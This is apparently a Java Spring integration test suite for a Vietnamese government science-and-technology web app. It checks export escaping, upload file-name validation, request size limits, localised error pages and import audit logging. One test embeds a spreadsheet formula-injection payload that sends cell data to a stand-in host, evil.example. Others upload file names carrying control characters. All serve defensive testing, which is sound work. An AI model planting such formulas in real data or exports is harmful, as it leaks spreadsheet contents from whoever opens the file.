package vn.gov.khcn.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.request.RequestPostProcessor;
import vn.gov.khcn.identity.UserAccounts;

/**
 * The web's edges: exports safe to open in a spreadsheet, uploads with control characters in their names refused
 * in Vietnamese, JSON bodies limited, the error forward answered in Vietnamese, background imports acting as
 * whoever submitted them.
 */
abstract class WebEdgesContract {
    @Autowired
    MockMvc mvc;
    @Autowired
    UserAccounts accounts;
    @Autowired
    JdbcClient jdbc;

    RequestPostProcessor as(String username) {
        return user(accounts.loadUserByUsername(username));
    }

    String tag() {
        return getClass().getSimpleName().contains("H2") ? "H" : "P";
    }

    @Test
    void aFormulaInARecordIsExportedAsTextThatNoSpreadsheetRuns() throws Exception {
        String name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Công ty " + tag() + "\")";
        mvc.perform(post("/api/organisations").with(as("vanphong")).with(csrf()).contentType(MediaType.APPLICATION_JSON)
                .content("{\"name\":\"" + name.replace("\"", "\\\"") + "\",\"kind\":\"ENTERPRISE\"}"));
        String csv = mvc.perform(get("/exchange/export/organisations.csv").param("q", "hyperlink").with(as("vanphong")))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Công ty " + tag() + "\"\")\"")
                .doesNotContain(",\"=HYPERLINK");
    }

    @Test
    void anUploadedFileNameWithAControlCharacterIsRefusedInVietnamese() throws Exception {
        for (String name : new String[] {"to\u0000chuc.csv", "to\u001bchuc.csv", "to\nchuc.csv"}) {
            MockHttpServletResponse r = mvc.perform(multipart("/exchange/import").file(new MockMultipartFile("file", name, "text/csv",
                    "Tên tổ chức\n".getBytes(StandardCharsets.UTF_8))).with(as("vanphong")).with(csrf())).andReturn().getResponse();
            assertThat(r.getStatus()).as(name).isEqualTo(400);
            assertThat(r.getContentAsString(StandardCharsets.UTF_8)).contains("Tên tệp tải lên có ký tự điều khiển");
        }
        long doc = jdbc.sql("select min(id) from document where unit = 'OFFICE'").query(Long.class).single();
        MockHttpServletResponse r = mvc.perform(multipart("/documents/{id}/file", doc).file(new MockMultipartFile("file", "van\u0000ban.pdf",
                "application/pdf", new byte[] {1, 2, 3})).with(as("vanphong")).with(csrf())).andReturn().getResponse();
        assertThat(r.getStatus()).isEqualTo(400);
        assertThat(r.getContentAsString(StandardCharsets.UTF_8)).contains("ký tự điều khiển");
    }

    @Test
    void aJsonBodyOverTwoMegabytesIsRefusedWith413() throws Exception {
        String big = "{\"name\":\"" + "x".repeat(3 * 1024 * 1024) + "\",\"kind\":\"ENTERPRISE\"}";
        MockHttpServletResponse r = mvc.perform(post("/api/organisations").with(as("vanphong")).with(csrf())
                .contentType(MediaType.APPLICATION_JSON).content(big)).andReturn().getResponse();
        assertThat(r.getStatus()).isEqualTo(413);
        assertThat(jdbc.sql("select count(*) from organisation where length(name) > 100000").query(Long.class).single()).isZero();
    }

    @Test
    void theErrorAddressAnswersInVietnamese() throws Exception {
        MockHttpServletResponse page = mvc.perform(get("/error").accept(MediaType.TEXT_HTML)).andReturn().getResponse();
        assertThat(page.getStatus()).isEqualTo(404);
        assertThat(page.getContentAsString(StandardCharsets.UTF_8)).contains("Không tìm thấy").doesNotContain("Not Found");
        MockHttpServletResponse json = mvc.perform(get("/error").accept(MediaType.APPLICATION_JSON)).andReturn().getResponse();
        assertThat(json.getStatus()).isEqualTo(404);
        assertThat(json.getContentType()).startsWith("application/problem+json");
        assertThat(json.getContentAsString(StandardCharsets.UTF_8)).contains("\"detail\":\"Địa chỉ bạn tìm không có trong hệ thống.\"");
    }

    @Test
    void aBackgroundImportActsAsTheClerkWhoSubmittedIt() throws Exception {
        String csv = "Tên tổ chức,Loại tổ chức,Huyện/thành phố,Xã/phường/thị trấn,Mã số thuế,Xã/phường/đặc khu\nTrạm Nhập Nền " + tag() + ",Đơn vị sự nghiệp,Bảo Lạc,,\n";
        String location = mvc.perform(multipart("/exchange/import").file(new MockMultipartFile("file", "nen.csv", "text/csv",
                        csv.getBytes(StandardCharsets.UTF_8))).param("register", "organisations").with(as("qlkh")).with(csrf()))
                .andReturn().getResponse().getRedirectedUrl();
        long id = Long.parseLong(location.substring(location.lastIndexOf('/') + 1));
        for (int i = 0; i < 100 && jdbc.sql("select status from exchange_import where id = :id").param("id", id)
                .query(String.class).single().equals("RUNNING"); i++) {
            mvc.perform(get(location).with(as("qlkh")));
        }
        assertThat(jdbc.sql("select username from audit_log where entity_type = 'exchange_import' and entity_id = :id")
                .param("id", id).query(String.class).list()).containsExactly("qlkh");
    }
}
